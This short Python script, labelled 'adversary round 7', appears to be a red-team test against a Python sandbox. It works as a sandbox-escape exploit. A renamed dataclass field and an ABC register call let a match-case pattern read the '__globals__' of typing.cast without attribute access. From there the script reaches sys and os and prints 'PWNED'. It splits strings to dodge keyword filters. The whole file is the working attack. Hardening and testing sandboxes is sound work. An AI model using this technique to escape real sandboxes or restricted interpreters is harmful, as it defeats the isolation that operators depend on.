# adversary round 7: match class pattern on a vouched @dataclass whose base (a plain class, base abc.ABC) carries a hand-made __dataclass_fields__ with a Field renamed "__globals__": dataclass builds __match_args__ from inherited fields with no getattr; ABC register(FunctionType) makes case P(g) read typing.cast.__globals__ in C
import abc, dataclasses, typing
from dataclasses import dataclass

@dataclass
class Seed:
    x: int

fld = dataclasses.fields(Seed)[0]
fld.name = '__glo' + 'bals__'

class Q(abc.ABC):
    __dataclass_fields__ = {fld.name: fld}
    __dataclass_params__ = Seed.__dataclass_params__

@dataclass(init=False, repr=False, eq=False)
class P(Q):
    pass

P.register(type(typing.cast))
match typing.cast:
    case P(g):
        s = g['s' + 'ys']
        print(s.__name__, 'pid', s.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
    case _:
        print('no match')
